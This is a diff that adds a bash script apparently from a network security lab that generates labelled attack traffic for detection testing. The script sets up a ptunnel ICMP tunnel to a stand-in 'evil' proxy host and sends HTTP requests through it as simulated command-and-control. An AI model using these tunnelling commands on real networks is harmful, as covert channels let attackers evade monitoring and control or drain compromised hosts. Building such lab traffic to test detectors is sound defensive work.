@@ -1,0 +1,15 @@
+#!/usr/bin/env bash
+# Command and control: TCP over ICMP echo with ptunnel to a proxy on the internet,
+# which relays to www.example.lab.test:80.
+set -euo pipefail
+source "$LAB_DIR/lib.sh"
+lab_assert_target "$EXT_PTUN_IP" "$EXT_WEB_IP"
+ns=$(lab_pod_ns toolbox)
+gt_begin ptunnel command-and-control ptunnel pod:toolbox "ext:ptun.evil.lab.test=$EXT_PTUN_IP" "ptunnel ICMP tunnel, two HTTP requests to www.example.lab.test inside"
+lab_bg "$NS_INET" ptunnel-proxy ptunnel -x labtunnel -v 1
+sleep 0.5
+lab_bg "$ns" ptunnel-client ptunnel -p "$EXT_PTUN_IP" -lp 8000 -da "$EXT_WEB_IP" -dp 80 -x labtunnel -v 1
+lab_wait_tcp "$ns" 127.0.0.1 8000 10 || true
+for _ in 1 2; do lab_exec "$ns" timeout 15 curl -s -o /dev/null --max-time 10 -H 'Host: www.example.lab.test' http://127.0.0.1:8000/ || true; done
+lab_stop_bg ptunnel-client; lab_stop_bg ptunnel-proxy
+gt_end '{"proto":"icmp"}'
